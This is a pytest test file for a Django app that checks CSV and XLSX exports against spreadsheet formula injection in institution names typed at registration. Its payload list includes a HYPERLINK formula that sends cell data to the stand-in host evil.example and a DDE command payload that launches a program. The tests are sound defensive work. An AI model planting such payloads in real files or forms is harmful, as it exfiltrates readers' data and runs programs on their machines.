"""OWASP A03 (CSV/formula injection): text an institution typed (its name, typed at self-registration) goes
into the province's spreadsheet exports and the public open-data CSV. Opened in Excel or WPS, a cell that
begins with = + - @ (or a tab/CR) is a formula: =HYPERLINK() sends the reader's data off-site, DDE runs
programs. Such cells must arrive as text."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_bases(w):
    """Published bases of institutions whose names (typed at registration, copied to the base) are formulas,
    with applications in the province's queue."""
    made = []
    for _n, name in enumerate(FORMULAS):
        inst = factories.InstitutionFactory(name=name)
        app = factories.ApplicationFactory(
            institution=inst,
            batch=w.batch,
            state="approved",
            submitted_at=timezone.now(),
            recommender_region=inst.region,
        )
        made.append(factories.BaseFactory(application=app, name=name, published_at=timezone.now()))
    return made


EXPORTS = [
    ("province", "bases:province_list", {}),
    ("province", "applications:province_queue", {"state": "approved"}),
    ("anonymous", "public:open_data_csv", {}),
]


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_the_exports_do_carry_the_typed_names(w, as_role, formula_bases):
    """The control: the names are in the files (so the checks below look at the right cells)."""
    for role, name, query in EXPORTS:
        cells = csv_cells(as_role(role).get(reverse(name), {**query, "export": "csv"}))
        assert all(any(formula.strip() in cell for cell in cells) for formula in FORMULAS), name


@pytest.mark.parametrize("role, name, query", EXPORTS, ids=[e[1] for e in EXPORTS])
def test_a_csv_export_never_starts_a_cell_with_a_formula_character(w, as_role, formula_bases, role, name, query):
    response = as_role(role).get(reverse(name), {**query, "export": "csv"})
    assert response.status_code == 200
    live = [c for c in csv_cells(response) if c.startswith(TRIGGERS)]
    assert not live, live


@pytest.mark.parametrize("role, name, query", EXPORTS[:2], ids=[e[1] for e in EXPORTS[:2]])
def test_an_xlsx_export_holds_typed_text_as_text_never_as_a_formula(w, as_role, formula_bases, role, name, query):
    response = as_role(role).get(reverse(name), {**query, "export": "xlsx"})
    assert response.status_code == 200
    live = [c.value for c in xlsx_cells(response) if c.data_type == "f" or str(c.value or "").startswith(TRIGGERS)]
    assert not live, live


def test_the_public_json_keeps_the_name_as_a_plain_string(w, formula_bases):
    """JSON is data, not a spreadsheet: the name comes back exactly as typed, as a string."""
    import json

    response = Client().get(reverse("public:open_data_json"))
    names = [b["name"] for b in json.loads(b"".join(response.streaming_content))["bases"]]
    assert set(FORMULAS) <= set(names)
